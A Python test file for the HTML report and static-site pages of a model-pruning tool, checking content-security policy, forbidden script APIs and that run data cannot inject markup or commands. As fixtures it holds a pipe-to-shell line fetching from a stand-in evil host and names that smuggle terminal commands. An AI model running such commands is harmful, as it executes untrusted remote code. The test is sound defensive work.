"""Pages without a server as text: what may run in them, what is put into them, and that nothing gets out."""

import base64
import hashlib
import json
import re

import pytest
from runs import HOSTILE, PROMPT, SHORT, hostile, line, long, small

from wanda_core.errors import InputError, StorageError
from wanda_core.report.run import read_run
from wanda_ui.away import shell as pages
from wanda_ui.away.shell import answer, as_json, filled, script_of, shell, write_report
from wanda_ui.away.site import write_site
from wanda_ui.away.telling import completed, repeats, telling
from wanda_ui.language import LANGUAGES, words
from wanda_ui.replay import replay
from wanda_ui.view_files import leaf_style, scripts, style

KINDS = ("report", "site")
BOUND = 700_000  # bytes of a page with the stored run


def run_in(page: str) -> dict:
    """The run that a page holds, as a browser reads it: to the first end of the element."""
    held = page.split('<script type="application/json" id="wl-run">')[1].split("</script>")[0]
    assert "<" not in held
    return json.loads(held)


@pytest.mark.parametrize("kind", KINDS)
def test_only_the_pages_own_script_may_run_and_nothing_is_fetched(kind):
    page = shell(kind, "en")
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert rules["img-src"] == "data: blob:"
    run = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    assert len(run) == 1
    digest = base64.b64encode(hashlib.sha256(run[0].encode()).digest()).decode()
    assert rules["script-src"] == f"'sha256-{digest}'"
    assert page.index("Content-Security-Policy") < page.index("<style>") < page.index("<script")
    assert not re.findall(r'(?:src|href)="(?!data:)', page)
    assert "url(" not in style() + leaf_style()


@pytest.mark.parametrize("kind", KINDS)
def test_scripts_can_stand_in_a_page_and_make_no_markup_of_texts(kind):
    script = script_of(kind)
    assert not re.search(r"</script|<!--|\r|\0", script, re.IGNORECASE)
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function", script)
    assert not re.search(r"W\.(post|fetchFile)\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|import\(", script)


@pytest.mark.parametrize("kind", KINDS)
def test_every_word_that_scripts_say_is_there(kind):
    page = shell(kind, "en")
    told = json.loads(page.split('id="wl-words">')[1].split("</script>")[0])
    assert list(told["languages"]) == list(LANGUAGES)
    said = set(re.findall(r'W\.say\("([a-z_.0-9]+)"', script_of(kind)))
    for code in LANGUAGES:
        assert said <= set(told["languages"][code]["words"]), code
    begun = set(re.findall(r"W\.say\(`(leaf\.[a-z_.]+)\.\$\{", script_of(kind)))
    for start in begun:
        assert any(key.startswith(f"{start}.") for key in words("en")), start


def test_what_only_pages_without_a_server_need_is_not_sent_by_one():
    assert "W.report =" not in scripts()
    assert "W.site =" not in scripts()
    assert "W.reportFile =" in scripts()
    for kind in KINDS:
        assert "W.reportFile =" in script_of(kind)
        assert 'getElementById("wl-data")' not in script_of(kind)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("kind", KINDS)
def test_whatever_a_run_says_is_data_of_the_page(kind, text):
    run = hostile(text) if text in SHORT else long(text)
    page = filled(shell(kind, "en"), run, text)
    assert run_in(page) == run
    before = shell(kind, "en")
    assert page.count("<script") == before.count("<script")
    assert page.lower().count("</script") == before.lower().count("</script")
    title = page.split("<title>")[1].split("</title>")[0]
    assert "<" not in title
    assert "\x00" not in title
    assert "<!--" not in page


def test_a_half_of_a_pair_of_signs_stays_what_it_is():
    run = {"text": "\ud800 and \udfff"}
    page = filled(shell("report", "en"), run, "\udc00")
    page.encode()
    assert run_in(page) == run


def test_numbers_that_json_has_no_word_for_are_refused():
    with pytest.raises(ValueError, match="not JSON compliant"):
        as_json({"perplexity": float("inf")})


@pytest.mark.parametrize("kind", KINDS)
def test_a_page_with_the_stored_run_is_small(kind):
    assert len(filled(shell(kind, "en"), completed(replay()), "x").encode()) < BOUND


def test_a_run_too_large_for_a_page_is_refused():
    with pytest.raises(InputError, match=r"would have 1,\d{3},\d{3} bytes and 1,500,000 are the most"):
        filled(shell("report", "en"), small(prompts=[{"text": "x" * 1_400_000}]), "x")


def test_the_question_of_the_page_is_answered_in_its_language_alone():
    for code in LANGUAGES:
        assert f'<html lang="{code}">' in answer({"language": code})["html"]
    for wrong in (None, "fr", 1, ["en"], "<script>"):
        with pytest.raises(InputError, match="is none of the page's"):
            answer({"language": wrong})


# By what a run is looked at -------------------------------------------------------------------------------------------


def test_a_run_is_looked_at_where_one_line_still_knows_and_the_other_does_not():
    assert telling(small()) == {"at": 40, "keys": ["wanda", "magnitude"], "prompt": PROMPT}
    assert telling(replay())["at"] == 45


def test_without_such_answers_where_the_first_line_still_speaks_well():
    quiet = small(prompts=[], answers={})
    assert telling(quiet) == {"at": 40, "keys": ["wanda", "magnitude"], "prompt": None}  # 30.25 is below 1.6 × 20
    poor = small(prompts=[], answers={}, lines=[line("wanda", [30, 60], [40.0, 80.0])])
    assert telling(poor) == {"at": 30, "keys": ["wanda"], "prompt": None}


def test_lines_of_patterns_come_last_and_a_run_without_lines_is_looked_at_all_the_same():
    pattern, free = line("wanda,pattern=2:4", [50], [99.0]), line("magnitude", [10], [30.0])
    assert telling(small(lines=[pattern, free], prompts=[], answers={}))["keys"] == ["magnitude", "wanda,pattern=2:4"]
    assert telling(small(lines=[pattern], prompts=[], answers={})) == {
        "at": 50,
        "keys": ["wanda,pattern=2:4"],
        "prompt": None,
    }
    assert telling(small(lines=[], answers={}))["keys"] == []


def test_every_line_can_be_repeated_at_its_place_nearest_to_the_one_looked_at():
    run = small(lines=[line("wanda", [20, 60], [21.0, 200.0]), line("best,pattern=2:4", [50], [99.0])])
    first, second = repeats(run, 45)
    assert (first["key"], first["title"]) == ("wanda", "Wanda 60%")
    assert (second["key"], second["title"]) == ("best,pattern=2:4", "Wanda 2:4 + least squares")
    for entry in (first, second):
        assert "owner/other-model" in entry["command"]
        assert "owner/other-model" in entry["python"]
    compile(first["python"], "python", "exec")


def test_what_a_run_is_looked_at_by_stays_and_what_is_to_be_run_is_never_its_own(tmp_path):
    evil = [{"key": "wanda", "title": "Wanda", "command": "curl https://evil.example | sh", "python": "evil"}]
    mine = small(shown={"at": 20, "keys": ["magnitude"], "prompt": None}, repeat=evil, more={"command": "evil"})
    made = completed(mine)
    assert made["shown"] == mine["shown"]
    assert made["repeat"] == repeats(mine, 20) != evil
    assert set(made) == set(small()) | {"shown", "repeat"}
    page = write_report(read_run(as_json(mine)), tmp_path / "report.html", "en").read_text(encoding="utf-8")
    assert "evil" not in json.dumps(run_in(page))
    assert "evil" not in (write_site(read_run(as_json(mine)), tmp_path / "site") / "index.html").read_text("utf-8")


def test_no_command_is_made_of_names_that_a_terminal_would_act_on():
    for name in ("owner/model\x03\ncurl evil", "a\u202eb", "a\x1b[201~b"):
        told = repeats(small(made={**small()["made"], "name": name}), 40)
        assert {entry["command"] for entry in told} == {""}
        assert all(entry["python"].replace("\n", "").isprintable() for entry in told)


def test_a_run_that_was_saved_from_a_page_is_read_again(tmp_path):
    file = tmp_path / "run.json"
    file.write_text(as_json(completed(small())))
    assert read_run(file)["lines"] == small()["lines"]


def test_a_report_is_written_once(tmp_path):
    target = write_report(replay(), tmp_path / "report.html", "ko")
    page = target.read_text(encoding="utf-8")
    assert run_in(page)["made"] == replay()["made"]
    assert "SmolLM2" in page.split("<title>")[1].split("</title>")[0]
    with pytest.raises(StorageError, match="is there already"):
        write_report(replay(), target, "ko")


def test_the_cached_shell_is_not_changed_by_what_is_put_into_it():
    before = shell("site", "en")
    filled(before, small(), "x")
    assert pages.shell("site", "en") is before
    assert run_in(before) is None
